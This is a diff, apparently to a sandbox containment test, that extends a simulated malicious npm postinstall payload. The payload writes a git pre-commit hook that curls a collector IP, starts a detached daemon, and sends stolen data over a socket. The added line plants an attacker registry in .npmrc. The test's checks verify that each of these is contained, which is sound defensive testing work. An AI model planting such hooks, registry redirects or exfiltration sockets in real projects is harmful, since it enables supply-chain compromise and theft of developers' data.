@@ -87,6 +87,9 @@ try {
   fs.mkdirSync(root + '/.git/hooks', {recursive: true});
   fs.writeFileSync(root + '/.git/hooks/pre-commit', '#!/bin/sh\ncurl $collector_ip:4444\n', {mode: 0o755});
 } catch (e) {}
+// A registry of ours in the project's .npmrc: the next run would allow it (exfiltration, and
+// dependency confusion for a scope).
+try { fs.appendFileSync(root + '/.npmrc', '\n@evil:registry=http://$collector_ip:4444/\n'); } catch (e) {}
 const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
 d.unref();
 const s = net.connect(4444, '$collector_ip', () => { s.end('STOLEN ' + loot); });
@@ -154,6 +157,8 @@ check_evil_pkg_contained() {
   [ -s "$collog" ] && fail "$what: the collector received: $(head -c 300 "$collog")"
   [ "$(sha256sum < "$home/.bashrc")" = "$bashrc_before" ] || fail "$what: ~/.bashrc changed"
   [ -s "$project/.git/hooks/pre-commit" ] && fail "$what: .git/hooks/pre-commit was dropped"
+  grep -q "$collector_ip" "$project/.npmrc" 2>/dev/null &&
+    fail "$what: the project's .npmrc names the collector: $(cat "$project/.npmrc")"
   pgrep -f "$daemon_mark" >/dev/null && fail "$what: the daemon survived moat"
   grep -q "CANARY" "$dir/out" "$dir/err" && fail "$what: a secret leaked into the output"
   grep -q "\[npm evil-pkg@1.0.0 postinstall\]" "$dir/err" ||
